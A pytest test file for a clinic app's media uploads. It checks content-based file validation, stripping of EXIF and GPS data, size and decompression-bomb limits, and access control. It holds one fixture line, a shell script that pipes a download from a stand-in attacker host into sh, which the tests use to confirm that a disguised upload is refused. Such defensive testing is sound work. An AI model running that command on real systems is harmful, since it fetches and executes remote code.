"""What an upload must be: checked by its content, within the limits, and free of metadata."""

from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from PIL import ExifTags, Image
from rest_framework.test import APIClient

from apps.exercises.services import exercise_create
from apps.media.models import ExerciseMedia
from apps.media.services import media_upload
from tests.factories import MP4_BYTES, image_bytes, library_exercise, upload

pytestmark = pytest.mark.django_db

SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"


def _gps_exif() -> Image.Exif:
    """What a phone writes: where the photo was taken (a patient's home), and the camera."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Orientation] = 1
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 12.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 40.0)
    return exif


def _api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_the_photo_built_for_the_test_really_has_a_gps_position():
    with Image.open(BytesIO(image_bytes(exif=_gps_exif()))) as image:
        gps = image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert gps[ExifTags.GPS.GPSLatitudeRef] == "N"


def test_the_gps_position_is_gone_from_the_stored_photo_and_its_thumbnail(clinician):
    # given a phone photo that says where it was taken
    exercise = library_exercise()
    data = image_bytes(exif=_gps_exif(), size=(1200, 900))

    # when a clinician uploads it
    media = media_upload(user=clinician, file=upload(data), exercise=exercise)

    # then the stored photo and its thumbnail carry no EXIF at all: no GPS, no camera
    for field in (media.file, media.thumbnail):
        with field.open("rb") as stored, Image.open(stored) as image:
            assert image.format == "JPEG"
            exif = image.getexif()
            assert exif.get_ifd(ExifTags.IFD.GPSInfo) == {}
            assert ExifTags.Base.GPSInfo not in exif
            assert ExifTags.Base.Make not in exif
            assert "exif" not in image.info
    with media.thumbnail.open("rb") as stored, Image.open(stored) as thumb:
        assert max(thumb.size) <= 480
    assert b"PhoneCo" not in media.file.open("rb").read()


def test_a_photo_taken_sideways_is_stored_upright(clinician):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # the camera was turned: rotate 90° to show it
    data = image_bytes(size=(80, 40), exif=exif)
    media = media_upload(user=clinician, file=upload(data), exercise=library_exercise())
    with media.file.open("rb") as stored, Image.open(stored) as image:
        assert image.size == (40, 80)


@pytest.mark.parametrize(
    ("fmt", "mime"), [("PNG", "image/png"), ("WEBP", "image/webp"), ("JPEG", "image/jpeg")]
)
def test_each_image_format_keeps_its_format(clinician, fmt, mime):
    media = media_upload(
        user=clinician, file=upload(image_bytes(fmt), name="x.bin"), exercise=library_exercise()
    )
    with media.file.open("rb") as stored, Image.open(stored) as image:
        assert image.format == fmt
    assert (media.kind, media.content_type) == ("image", mime)


def test_a_script_renamed_jpg_is_refused_and_nothing_is_stored(clinician):
    with pytest.raises(ValidationError) as refused:
        media_upload(
            user=clinician, file=upload(SCRIPT, name="exercise.jpg"), exercise=library_exercise()
        )
    assert "Upload a photo (JPEG, PNG or WebP) or a video" in str(refused.value)
    assert ExerciseMedia.objects.count() == 0


def test_a_script_renamed_jpg_is_refused_in_the_browser_and_the_api(clinician, clinician_client):
    exercise = library_exercise()
    page = clinician_client.post(
        reverse("media:exercise_new", args=[exercise.pk]),
        {"file": upload(SCRIPT, name="exercise.jpg"), "caption": "Start position"},
    )
    api = _api(clinician).post(
        f"/api/v1/exercises/{exercise.pk}/media/",
        {"file": upload(SCRIPT, name="exercise.jpg")},
        format="multipart",
    )

    assert page.status_code == 200
    assert "Upload a photo (JPEG, PNG or WebP) or a video" in page.content.decode()
    assert api.status_code == 400
    assert "Upload a photo" in api.json()["file"][0]
    assert ExerciseMedia.objects.count() == 0


def test_a_video_is_stored_under_a_random_name_with_its_type(clinician):
    media = media_upload(
        user=clinician,
        file=upload(MP4_BYTES, name="Pat Quennell hip 2026-03-01.mp4", content_type="video/mp4"),
        exercise=library_exercise(),
        caption=" Side view ",
    )
    assert (media.kind, media.content_type, media.caption) == ("video", "video/mp4", "Side view")
    assert "Pat" not in media.file.name
    assert media.file.name.endswith(".mp4")
    assert media.file.read() == MP4_BYTES
    assert media.size == len(MP4_BYTES)
    assert not media.thumbnail


def test_a_truncated_photo_is_refused_with_a_message(clinician):
    data = image_bytes(size=(400, 300))
    with pytest.raises(ValidationError, match="could not be read"):
        media_upload(user=clinician, file=upload(data[:300]), exercise=library_exercise())


def test_a_decompression_bomb_is_refused(clinician, monkeypatch):
    # Pillow's limit, lowered so that a small test image is over twice it
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    with pytest.raises(ValidationError, match="too many pixels"):
        media_upload(
            user=clinician, file=upload(image_bytes(size=(100, 100))), exercise=library_exercise()
        )


def test_a_photo_between_pillows_limit_and_twice_it_is_refused_too(clinician, monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 8000)
    with pytest.raises(ValidationError, match="too many pixels"):
        media_upload(
            user=clinician, file=upload(image_bytes(size=(100, 100))), exercise=library_exercise()
        )


def test_a_too_big_photo_gives_a_form_error_and_keeps_the_caption(
    settings, clinician, clinician_client
):
    # given a limit of 1 MB for photos
    settings.MEDIA_IMAGE_MAX_MB = 1
    exercise = library_exercise()
    big = image_bytes() + bytes(2 * 1024 * 1024)

    # when a clinician uploads a 2 MB photo with a caption
    page = clinician_client.post(
        reverse("media:exercise_new", args=[exercise.pk]),
        {"file": upload(big), "caption": "Hips level at the top"},
    )

    # then the form says why, and the caption is still there to send again
    html = page.content.decode()
    assert page.status_code == 200
    assert "This photo is 2.0 MB; the limit is 1 MB." in html
    assert 'value="Hips level at the top"' in html
    assert ExerciseMedia.objects.count() == 0


def test_a_too_big_video_is_a_400_in_the_api(settings, clinician):
    settings.MEDIA_VIDEO_MAX_MB = 1
    exercise = library_exercise()
    big = MP4_BYTES + bytes(1024 * 1024)

    response = _api(clinician).post(
        f"/api/v1/exercises/{exercise.pk}/media/",
        {"file": upload(big, name="v.mp4", content_type="video/mp4"), "caption": "Side"},
        format="multipart",
    )

    assert response.status_code == 400
    assert response.json()["file"] == ["This video is 1.0 MB; the limit is 1 MB."]
    assert ExerciseMedia.objects.count() == 0


def test_nothing_is_left_in_storage_after_a_refused_upload(clinician, settings):
    # a caption over 200 characters is refused by the model, after the files were written
    with pytest.raises(ValidationError, match="at most 200"):
        media_upload(
            user=clinician,
            file=upload(image_bytes()),
            exercise=library_exercise(),
            caption="x" * 201,
        )
    stored = settings.MEDIA_ROOT / "media"
    assert [p for p in stored.rglob("*") if p.is_file()] == []
    assert ExerciseMedia.objects.count() == 0


def test_a_patient_cannot_upload(patient, program, patient_client):
    item = program.items.first()
    page = patient_client.post(
        reverse("media:prescription_new", args=[item.pk]), {"file": upload(image_bytes())}
    )
    api = _api(patient.user).post(
        f"/api/v1/prescriptions/{item.pk}/media/",
        {"file": upload(image_bytes())},
        format="multipart",
    )
    assert (page.status_code, api.status_code) == (403, 403)
    with pytest.raises(ValidationError, match="Only a clinic's clinicians"):
        media_upload(user=patient.user, file=upload(image_bytes()), prescribed=item)
    assert ExerciseMedia.objects.count() == 0


def test_another_clinics_own_exercise_takes_no_media_from_us(clinician, other_clinic_clinician):
    theirs = exercise_create(
        clinician=other_clinic_clinician,
        name="Their wall sit",
        region="hip",
        instructions="Sit.",
        dose_kind="hold",
        default_sets=3,
        default_target_low=20,
        default_target_high=30,
    )
    client = _api(clinician)
    response = client.post(
        f"/api/v1/exercises/{theirs.pk}/media/",
        {"file": upload(image_bytes())},
        format="multipart",
    )
    assert response.status_code == 404
    with pytest.raises(ValidationError, match="Only this clinic's own or library"):
        media_upload(user=clinician, file=upload(image_bytes()), exercise=theirs)
